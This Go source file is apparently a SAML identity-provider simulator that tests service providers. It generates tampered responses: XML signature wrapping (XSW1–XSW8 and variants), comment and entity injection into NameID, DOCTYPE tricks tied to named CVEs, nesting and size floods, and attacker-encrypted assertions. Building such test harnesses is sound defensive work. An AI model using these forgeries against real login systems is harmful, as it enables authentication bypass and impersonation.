package idpsim

import (
	"strings"
)

// messageFaults change a correctly signed message on its way, below the level of XML
// structure: text tricks, parser tricks, floods.
func messageFaults() []Fault {
	swap := func(name, danish string, pairs ...string) Fault {
		return Fault{Name: name, Danish: danish, apply: func(_ *Server, d *draft) {
			d.afterwards = strings.NewReplacer(pairs...).Replace
		}}
	}
	change := func(name, danish string, how func(string) string) Fault {
		return Fault{Name: name, Danish: danish, apply: func(_ *Server, d *draft) { d.afterwards = how }}
	}
	const root, end = "<samlp:Response ", "</samlp:Response>"
	inside := func(name, danish string, how func(string) string) Fault {
		return Fault{Name: name, Danish: danish, apply: func(_ *Server, d *draft) { d.changeAssertion(how) }}
	}
	into := func(what string) func(string) string {
		return func(s string) string { return intoNameID(s, what) }
	}
	return []Fault{
		inside("tampered-attribute", "Ændret attribut", func(s string) string {
			return strings.Replace(s, "<saml:AttributeValue>", "<saml:AttributeValue>ATTACKER", 1)
		}),
		inside("tampered-name-id", "Ændret NameID", into("ATTACKER")),
		inside("comment-in-name-id", "Kommentar i NameID", into("<!---->")),
		inside("comment-in-attributes", "Kommentar i attributterne", func(s string) string {
			return strings.NewReplacer("</saml:AttributeValue>", "<!----></saml:AttributeValue>").Replace(s)
		}),
		inside("instruction", "Processing instruction", into("<?x y?>")),
		swap("comment-in-response", "Kommentar i svaret", "<samlp:Status>", "<!-- x --><samlp:Status>"),
		change("doctype", "DOCTYPE", func(s string) string { return "<!DOCTYPE x>" + s }),
		change("doctype-entity", "DOCTYPE med entitet", func(s string) string {
			return `<!DOCTYPE x [<!ENTITY e "ATTACKER">]>` + strings.Replace(s, "<samlp:Status>", "<samlp:Status>&e;", 1)
		}),
		change("entity-in-id", "Entitet i ID (CVE-2025-23369)", func(s string) string {
			return `<!DOCTYPE x [<!ENTITY e "_">]>` + strings.Replace(s, ` ID="_`, ` ID="&e;`, 1)
		}),
		inside("doctype-inside", "DOCTYPE i billetten", func(s string) string { return "<!DOCTYPE x>" + s }),
		swap("unknown-entity", "Ukendt entitet", "<samlp:Status>", "<samlp:Status>&e;"),
		inside("appended-name-id", "Ekstra NameID", func(s string) string {
			return strings.Replace(s, "</saml:NameID>", "</saml:NameID><saml:NameID>ATTACKER</saml:NameID>", 1)
		}),
		swap("duplicate-id-attribute", "ID to gange", root, `<samlp:Response ID="_evil" `),
		swap("foreign-child", "Fremmed element i svaret", "<samlp:Status>", `<x:y xmlns:x="urn:x"/><samlp:Status>`),
		swap("namespaced-id", "ID i et navnerum", root, `<samlp:Response xmlns:x="urn:x" x:ID="_evil" `),
		swap("colon-element", "Element ved navn :x", "<samlp:Status>", `<:x></:x><samlp:Status>`),
		swap("name-with-colon-at-end", "Attribut ved navn x:", root, `<samlp:Response x:="1" `),
		swap("colon-name", "Attribut ved navn :x", root, `<samlp:Response :x="1" `),
		swap("double-colon-name", "Attribut ved navn a::x", root, `<samlp:Response xmlns:a="urn:a" a::x="1" `),
		swap("attribute-twice-raw", "Samme XML-attribut to gange", root, `<samlp:Response Consent="a" Consent="b" `),
		swap("relative-namespace", "Relativt navnerum", root, `<samlp:Response xmlns:x="1" `),
		swap("undeclared-prefix", "Ukendt præfiks", "<samlp:Status>", "<y:z/><samlp:Status>"),
		swap("deep", "Indlejret 50.000 gange", "</samlp:Status>",
			strings.Repeat("<a>", 20000)+strings.Repeat("</a>", 20000)+"</samlp:Status>"),
		inside("deep-inside", "Indlejret 1.000 gange i billetten", func(s string) string {
			return strings.Replace(s, "</saml:AttributeStatement>", nest(1000)+"</saml:AttributeStatement>", 1)
		}),
		swap("wide", "50.000 elementer", "</samlp:Status>", strings.Repeat("<a/>", 50000)+"</samlp:Status>"),
		swap("many-attributes", "Mange attributter", "<samlp:Status>", "<samlp:Status "+manyAttributes(500)+">"),
		swap("large", "For stort svar", "</samlp:Status>", strings.Repeat(" ", 300<<10)+"</samlp:Status>"),
		swap("two-roots", "To rødder", end, end+"<a/>"),
		swap("trailing-text", "Tekst efter svaret", end, end+"ATTACKER"),
		change("truncated", "Afkortet", func(s string) string { return s[:len(s)*2/3] }),
		change("not-xml", "Ikke XML", func(string) string { return "SAML" }),
		{
			Name: "cdata", Danish: "CDATA i NameID (tilladt)", Harmless: true,
			apply: func(_ *Server, d *draft) {
				d.changeAssertion(func(s string) string {
					at := nameIDText(s)
					return s[:at] + "<![CDATA[" + s[at:at+5] + "]]>" + s[at+5:]
				})
			},
		},
	}
}

// changeAssertion changes the assertion after it was signed: in the message, or in the plain
// text when it is going to be encrypted, as somebody could who knows the plain text.
func (d *draft) changeAssertion(how func(string) string) {
	if d.encrypt != nil {
		d.beforeEncryption = how
	} else {
		d.afterwards = how
	}
}

// nameIDText returns where the text of the NameID begins.
func nameIDText(s string) int {
	start := strings.Index(s, "<saml:NameID")
	return start + strings.Index(s[start:], ">") + 1
}

// intoNameID puts something between the characters of the NameID.
func intoNameID(s, what string) string {
	at := nameIDText(s) + 5
	return s[:at] + what + s[at:]
}

func manyAttributes(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(" a" + strings.Repeat("x", i+1) + `="1"`)
	}
	return b.String()
}

// parts is a finished message taken apart for signature wrapping.
type parts struct {
	head, assertion, tail string
	signature             string
	bare                  string // the assertion without its signature
	evil                  string // bare, with an attacker in it and an ID of its own
}

func takeApart(response string) (parts, bool) {
	start := strings.Index(response, "<saml:Assertion ")
	end := strings.Index(response, "</saml:Assertion>")
	if start < 0 || end < 0 {
		return parts{}, false
	}
	end += len("</saml:Assertion>")
	p := parts{head: response[:start], assertion: response[start:end], tail: response[end:]}
	from := strings.Index(p.assertion, "<ds:Signature ")
	to := strings.Index(p.assertion, "</ds:Signature>")
	if from < 0 || to < 0 {
		return parts{}, false
	}
	to += len("</ds:Signature>")
	p.signature = p.assertion[from:to]
	p.bare = p.assertion[:from] + p.assertion[to:]
	p.evil = intoNameID(strings.NewReplacer(` ID="`, ` ID="_evil`, "sluse-", "ATTACKER-").Replace(p.bare), "ATTACKER")
	return p, true
}

// wrappingFaults are the signature wrapping attacks XSW1 to XSW8 of Somorovsky et al. (On
// Breaking SAML, 2012, names of SAML Raider) and later relatives: the genuine signature
// stays valid, and a forged assertion waits where a careless reader looks. Of an encrypted
// answer it is the plain text that is wrapped.
func wrappingFaults() []Fault {
	wrap := func(name, danish string, how func(parts) string) Fault {
		return Fault{Name: name, Danish: danish, apply: func(_ *Server, d *draft) {
			d.changeAssertion(func(s string) string {
				p, ok := takeApart(s)
				if !ok {
					return s
				}
				return how(p)
			})
		}}
	}
	object := func(s string) string { return "<ds:Object>" + s + "</ds:Object></ds:Signature>" }
	withSignature := func(p parts, signature string) string { return afterIssuer(p.evil, signature) }
	unclosed := func(p parts) string { return strings.TrimSuffix(p.signature, "</ds:Signature>") }
	return []Fault{
		wrap("xsw1", "XSW1: svaret pakket ind i signaturen", func(p parts) string {
			return p.head + withSignature(p, unclosed(p)+object(p.head+p.bare+p.tail)) + p.tail
		}),
		wrap("xsw2", "XSW2: svaret foran signaturen", func(p parts) string {
			return p.head + withSignature(p, p.head+p.bare+p.tail+p.signature) + p.tail
		}),
		wrap("xsw3", "XSW3: falsk billet først", func(p parts) string { return p.head + p.evil + p.assertion + p.tail }),
		wrap("xsw4", "XSW4: ægte billet i den falske", func(p parts) string {
			return p.head + strings.Replace(p.evil, "</saml:Assertion>", p.assertion+"</saml:Assertion>", 1) + p.tail
		}),
		wrap("xsw5", "XSW5: signatur i den falske", func(p parts) string {
			return p.head + withSignature(p, p.signature) + p.bare + p.tail
		}),
		wrap("xsw6", "XSW6: ægte billet i signaturen", func(p parts) string {
			return p.head + withSignature(p, unclosed(p)+p.bare+"</ds:Signature>") + p.tail
		}),
		wrap("xsw7", "XSW7: falsk billet i Extensions", func(p parts) string {
			return p.head + "<samlp:Extensions>" + p.evil + "</samlp:Extensions>" + p.assertion + p.tail
		}),
		wrap("xsw8", "XSW8: ægte billet i Object", func(p parts) string {
			return p.head + withSignature(p, unclosed(p)+object(p.bare)) + p.tail
		}),
		wrap("xsw-same-id", "To billetter med samme ID", func(p parts) string {
			return p.head + strings.Replace(p.evil, "_evil", "", 1) + p.assertion + p.tail
		}),
		wrap("xsw-two-signatures", "To signaturer i billetten", func(p parts) string {
			return p.head + strings.Replace(p.assertion, p.signature, p.signature+p.signature, 1) + p.tail
		}),
		wrap("xsw-two-signed-infos", "To SignedInfo", func(p parts) string {
			info := p.signature[strings.Index(p.signature, "<ds:SignedInfo>"):strings.Index(p.signature, "<ds:SignatureValue>")]
			return p.head + strings.Replace(p.assertion, info, info+info, 1) + p.tail
		}),
		wrap("two-assertions", "To billetter", func(p parts) string { return p.head + p.assertion + p.evil + p.tail }),
		wrap("evil-only", "Kun falsk billet, signatur i svaret", func(p parts) string {
			return strings.Replace(p.head, "<samlp:Status>", p.signature+"<samlp:Status>", 1) + p.evil + p.tail
		}),
		wrap("nested-response", "Svar i svar", func(p parts) string {
			return strings.Replace(p.head, "<samlp:Status>", "<samlp:Extensions>"+p.head+p.assertion+p.tail+
				"</samlp:Extensions><samlp:Status>", 1) + p.evil + p.tail
		}),
		wrap("digest-elsewhere", "Kontrolsum uden for signaturen (CVE-2024-45409)", func(p parts) string {
			if p.head == "" { // within an encrypted assertion
				return strings.Replace(p.assertion, "</saml:Subject>", p.signature+"</saml:Subject>", 1)
			}
			return strings.Replace(p.head, "</samlp:Status>", "<samlp:StatusDetail>"+p.signature+
				"</samlp:StatusDetail></samlp:Status>", 1) + p.assertion + p.tail
		}),
		wrap("foreign-assertion", "Billet i fremmed navnerum", func(p parts) string {
			return p.head + `<x:Assertion xmlns:x="urn:x"></x:Assertion>` + p.assertion + p.tail
		}),
		evilEncrypted("other-encrypted", "Angriberens krypterede billet bagest (CVE-2026-2092)", func(genuine, evil string) string {
			return genuine + evil
		}),
		evilEncrypted("other-encrypted-first", "Angriberens krypterede billet forrest", func(genuine, evil string) string {
			return evil + genuine
		}),
		evilEncrypted("other-encrypted-only", "Kun angriberens krypterede billet", func(_, evil string) string { return evil }),
	}
}

// evilEncrypted puts an assertion of an attacker, encrypted with the service provider's
// public key, beside or in place of the genuine one.
func evilEncrypted(name, danish string, join func(genuine, evil string) string) Fault {
	return Fault{Name: name, Danish: danish, apply: func(_ *Server, d *draft) {
		d.afterwards = func(s string) string {
			start, end := strings.Index(s, "</samlp:Status>")+len("</samlp:Status>"), strings.LastIndex(s, "</samlp:Response>")
			evil, err := AES256GCM().encrypted([]byte(intoNameID(d.assertion(), "ATTACKER")), d.recipientKey())
			if err != nil {
				return s
			}
			return s[:start] + join(s[start:end], evil) + s[end:]
		}
	}}
}
